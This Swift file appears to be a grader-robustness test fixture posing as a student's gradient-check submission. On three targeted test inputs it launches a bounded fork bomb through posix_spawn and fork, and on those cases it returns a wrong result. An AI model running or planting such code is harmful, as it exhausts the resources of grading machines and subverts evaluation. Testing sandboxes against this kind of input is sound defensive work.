// Attack: a fork bomb. On the first three cases (x = 2, 3 and -1.5: both public cases and the first
// hidden one, six seconds of the time limit in all) it starts a shell named `grader-attack-survivor` that
// doubles itself ten times over (2047 shells and as many `sleep 20`), forks itself until fork fails (at
// most 1024 times, each child sleeping 20 s), and waits. Bounded, so that a machine without limits
// survives it. Every other case is answered right.
import Assignments
#if canImport(Glibc)
import Glibc
#endif

func forkBomb() -> String {
    let script = "b() { if [ $1 -gt 0 ]; then b $(($1 - 1)) & b $(($1 - 1)) & fi; sleep 20; wait; }; b 10"
    let names: [String] = ["grader-attack-survivor", "-c", script]
    let words: [UnsafeMutablePointer<CChar>?] = names.map { strdup($0) } + [nil]
    var child: pid_t = 0
    let status = words.withUnsafeBufferPointer {
        posix_spawn(&child, "/bin/sh", nil, nil, UnsafeMutablePointer(mutating: $0.baseAddress!), environ)
    }
    guard status == 0 else { return "posix_spawn: \(String(cString: strerror(status)))" }
    // Fork from here too, until fork fails.
    var forks = 0
    while forks < 1024 {
        let pid = fork()
        if pid == 0 {
            sleep(20)
            _exit(0)
        }
        if pid < 0 { break }
        forks += 1
    }
    var ended: Int32 = 0
    waitpid(child, &ended, 0)
    return "shell \(child), \(forks) forks"
}

struct StudentGradientCheck: GradientCheckExercise {
    func gradientCheck(x: Double, theta: Double, epsilon: Double) -> Double {
        if x == 2.0 || x == 3.0 || x == -1.5 {
            print("attack ran: fork bomb (\(forkBomb()))")
            return 0.5
        }
        return CorrectGradientCheck().gradientCheck(x: x, theta: theta, epsilon: epsilon)
    }
}
